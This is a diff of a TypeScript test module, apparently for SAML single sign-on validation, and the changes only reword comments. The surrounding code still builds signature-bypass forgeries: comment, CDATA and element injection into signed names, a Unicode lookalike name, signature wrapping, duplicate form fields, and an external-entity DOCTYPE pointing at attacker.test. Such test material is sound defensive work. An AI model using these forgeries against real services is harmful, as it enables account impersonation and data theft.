@@ -17,12 +17,12 @@ function responseFor(
   return response({ user, ...changes });
 }
 
-/** The victim's names as text of elements, each in its place. */
+/** The victim's names as text of elements, each at its place. */
 function namesOf({ victim: { id, email, nameId } }: ForgeryMaterial): readonly string[] {
   return [id, email, nameId].filter((name) => name !== undefined);
 }
 
-/** Writes what was signed behind the victim's name in another way. */
+/** Rewrites the signed text that follows the victim's name. */
 function split(material: ForgeryMaterial, write: (rest: string) => string): string {
   return namesOf(material).reduce(
     (xml, name) => xml.replaceAll(`>${name}${suffix}<`, `>${name}${write(suffix)}<`),
@@ -30,7 +30,7 @@ function split(material: ForgeryMaterial, write: (rest: string) => string): stri
   );
 }
 
-/** The name in letters that compatibility normalization takes for its own (Unicode NFKC). */
+/** The name in letters that compatibility normalization (Unicode NFKC) maps to it. */
 function lookalike(name: string): string {
   return name.replace(/^[a-z]/, (letter) => String.fromCodePoint(letter.charCodeAt(0) - 0x61 + 0x24d0));
 }
@@ -43,12 +43,12 @@ const forge = (
   more: Pick<Forgery, 'from' | 'succeeded'> = {},
 ): Forgery => ({ name, row, description, make, succeeded: impersonates, ...more });
 
-/** Text that two readers see differently; who is honestly called so may be let in, as who he is. */
+/** Text that two parsers read differently. The application may sign in the user who really has that name. */
 export const textForgeries: readonly Forgery[] = [
   forge(
     'comment-in-name',
     'TXT-1',
-    'Signed for victim.attacker.test, then a comment was put behind victim. Careless: reads the first text, while canonicalization leaves comments out.',
+    'Signed for victim.attacker.test, then a comment was inserted after victim. Careless: reads the first text node, while canonicalization removes comments.',
     (material) => split(material, (rest) => `<!---->${rest}`),
   ),
   forge('cdata-in-name', 'TXT-2', 'The same with a CDATA section, which canonicalization makes text.', (material) =>
@@ -70,7 +70,7 @@ export const textForgeries: readonly Forgery[] = [
   forge(
     'element-in-name',
     'TXT-4',
-    'Signed with an element between victim and what follows. Careless: reads the first text.',
+    'Signed with an element between victim and the rest. Careless: reads the first text node.',
     (material) =>
       responseFor(material, (name) => name + suffix, {
         mutateBeforeSigning: (xml) =>
@@ -89,14 +89,14 @@ export const textForgeries: readonly Forgery[] = [
   forge(
     'doctype',
     'DTD-1',
-    'A genuine Response with a document type that refers to an external entity. Careless: has its parser read files and other servers.',
+    'A genuine Response with a document type that refers to an external entity. Careless: its parser reads files and other servers.',
     (material) => `<!DOCTYPE x [<!ENTITY x SYSTEM "http://attacker.test/x">]>${material.victimsResponse()}`,
     { succeeded: ({ who }) => who !== 'none' },
   ),
   forge(
     'id-by-entity',
     'XSW-10',
-    'A forged Response whose ID is an entity, with a genuine one inside it. Careless: does not see that two IDs are one.',
+    'A forged Response whose ID is an entity, with a genuine one inside it. Careless: does not detect that the two IDs are equal.',
     (material) => {
       const genuine = material.response();
       const id = / ID="([^"]*)"/.exec(genuine)?.[1] ?? '';
@@ -108,7 +108,7 @@ export const textForgeries: readonly Forgery[] = [
   forge(
     'two-documents',
     'PRS-5',
-    'A forged Response follows the genuine one, as a second document. Careless: its parser takes both.',
+    'A forged Response follows the genuine one, as a second document. Careless: its parser accepts both.',
     (material) => material.response() + material.forgedResponse,
     { from: clearModes },
   ),
@@ -122,7 +122,7 @@ export const textForgeries: readonly Forgery[] = [
   forge(
     'field-twice',
     'RDR-2',
-    'The form has two fields SAMLResponse, the genuine one first. Careless: verifies the one, reads the other.',
+    'The form has two fields SAMLResponse, the genuine one first. Careless: verifies one, reads the other.',
     (material) => ({
       fields: [...postFields(material.response(), material), ...postFields(material.forgedResponse, material)],
     }),
